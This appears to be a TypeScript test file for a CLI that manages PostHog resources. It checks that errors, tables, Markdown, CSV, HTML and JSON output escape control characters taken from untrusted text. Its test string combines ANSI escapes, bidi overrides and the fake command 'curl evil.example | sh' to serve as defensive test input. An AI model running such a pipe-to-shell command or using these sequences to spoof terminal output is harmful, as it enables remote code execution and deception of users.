import fc from "fast-check";
import { markdownText } from "../../../cli/common/markdown";
import { jsonText } from "../../../cli/common/output";
import { textTable, wrapped } from "../../../cli/common/terminal";
import { escapeHtml } from "../../../cli/review/page/escape";
import { embedJson } from "../../../cli/review/page/html";
import { SYSTEM } from "../../../emulator";
import { printable, printableLines } from "../../../provider/access/messages";
import { csvRow } from "../../../provider/audit/printable";
import { DriftSourceError } from "../../../provider/drift/state";
import { notice, problem, warning } from "../../../provider/engine/finding";
import { MatrixError } from "../../../provider/matrix/problem";
import { PosthogError } from "../../../provider/posthog/errors";
import { withWorld } from "../../support/driver";

/** Characters that move a cursor, color, hide or reorder text, or begin a line. */
const hostile =
  "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}\ud800";
const obeyed = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

test("a printable text is one line, and parses to the same JSON", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      expect(printable(text)).not.toMatch(obeyed);
      expect(printableLines(text).split("\n")).toHaveLength(text.split("\n").length);
      expect(JSON.parse(printable(JSON.stringify(text)))).toBe(text);
    }),
  );
});

describe("control characters in other people's texts are shown escaped", () => {
  const lines: [string, () => string, number][] = [
    ["an error", () => new PosthogError(hostile, { why: hostile, fix: hostile }).message, 3],
    ["an error's summary", () => new PosthogError(hostile, { why: "", fix: "" }).summary, 1],
    ["an error about drift's sources", () => new DriftSourceError(hostile, hostile, hostile).message, 3],
    [
      "an error of the matrix",
      () => new MatrixError([{ path: [hostile], message: hostile }], hostile).message,
      2,
    ],
    ["an error of a preview", () => problem(hostile, hostile, { why: hostile, fix: hostile }).message, 3],
    ["a warning", () => warning(hostile).message, 1],
    ["a notice", () => notice(hostile).message, 1],
    [
      "a table",
      () =>
        textTable(["A", "B"], [[hostile, hostile]], 1000)
          .slice(1)
          .join("\n"),
      1,
    ],
    ["wrapped text", () => wrapped(hostile, 1000).join("\n"), 1],
    ["Markdown", () => markdownText(hostile), 1],
    ["a row of CSV without lines", () => csvRow([hostile.replace(/[\r\n]/g, "")]).trimEnd(), 1],
    ["a page", () => escapeHtml(hostile), 1],
    ["data of a page, as its script reads it", () => JSON.parse(embedJson({ hostile })).hostile, 1],
    ["JSON on one line", () => jsonText({ hostile }, { isOneLine: true }), 1],
  ];
  test.each(lines)("in %s", (_, write, count) => {
    const text = write();
    expect(text).toContain("evil");
    expect(text.split("\n")).toHaveLength(count);
    for (const line of text.split("\n")) expect(line).not.toMatch(obeyed);
  });
});

test("control characters in PostHog's names never reach a terminal, in notices or errors", () =>
  withWorld(async ({ emulator, resource, messages, run }) => {
    const role = resource("Role");
    await role.up({ name: "Analysts" });
    emulator.store.roles.update(String(role.state.roleId), { name: `Analysts${hostile}` }, SYSTEM);
    run();
    const second = resource("Role", hostile);
    const refused = await second.refusals({ name: `Analysts${hostile}`.trim() });
    expect(refused.length).toBeGreaterThan(0);
    for (const line of [...refused, ...messages].flatMap((text) => text.split("\n")))
      expect(line).not.toMatch(obeyed);
  }));
